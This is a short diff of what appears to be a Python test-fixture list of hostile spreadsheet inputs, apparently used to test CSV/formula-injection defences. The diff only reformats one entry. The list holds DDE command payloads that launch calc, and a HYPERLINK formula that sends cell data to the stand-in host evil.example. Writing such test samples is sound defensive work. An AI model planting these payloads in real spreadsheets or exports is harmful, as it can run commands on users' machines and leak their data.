@@ -76,9 +76,7 @@ _TEMPLATES = (
 _FORMULAS = (
     HostileText("formula", "=1+1", "formula-like"),
     HostileText("command formula", "=cmd|' /C calc'!A0", "formula-like"),
-    HostileText(
-        "link formula", '=HYPERLINK("https://evil.example?x="&A1,"more")', "formula-like"
-    ),
+    HostileText("link formula", '=HYPERLINK("https://evil.example?x="&A1,"more")', "formula-like"),
     HostileText("at formula", "@SUM(1+1)*cmd|' /C calc'!A0", "formula-like"),
     HostileText("plus formula", "+cmd|' /C calc'!A0", "formula-like"),
     HostileText("minus formula", "-cmd|' /C calc'!A0", "formula-like"),
